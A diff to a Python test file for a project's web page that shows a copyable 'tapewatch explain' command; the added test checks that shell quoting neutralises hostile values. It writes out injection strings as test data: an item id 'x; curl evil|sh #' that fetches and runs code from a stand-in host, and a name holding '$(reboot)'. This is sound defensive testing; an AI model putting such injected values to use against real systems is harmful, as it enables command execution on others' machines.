@@ -1,15 +1,18 @@
 """Which words made the model call a stored item so, on the desk: with a tiny model of ours."""
 
 import re
+import shlex
 from dataclasses import replace
 from functools import partial
 from html import unescape
 from pathlib import Path
+from urllib.parse import urlencode
 
 import httpx
 import pytest
 
 from db.engine import Engine
+from db.rows import EntityRow
 from pipeline.settings import ModelSettings, Settings
 from pipeline.web import services
 from pipeline.web.desk import why
@@ -96,6 +99,23 @@ async def test_a_long_text_and_a_service_without_explanations_say_so(settings: S
 
     assert "too long" in long.text
     assert "TAPEWATCH_WEB__EXPLAIN" in without.text
+
+
+async def test_a_command_to_copy_runs_nothing_that_a_foreign_id_or_name_holds(
+    settings: Settings, engine: Engine
+) -> None:
+    odd = EntityRow("name:odd", 'O\'Dd $(reboot) "Inc"')
+    item_id = "x; curl evil|sh #"
+    store(engine, item(item_id, entities=(towards(odd, NEGATIVE),)))
+    off = settings.web.model_copy(update={"explain": False})
+    query = urlencode({"item": item_id, "entity": odd.id})
+
+    answer = await page(settings.model_copy(update={"web": off}), query)
+
+    found = re.search(r"<code>(.*?)</code>", answer.text)
+    assert found is not None
+    command = ["tapewatch", "explain", "--item", item_id, "--label", "negative"]
+    assert shlex.split(unescape(found[1])) == [*command, "--entity", odd.name]
 
 
 async def test_who_waits_is_told_and_the_page_renews_itself(
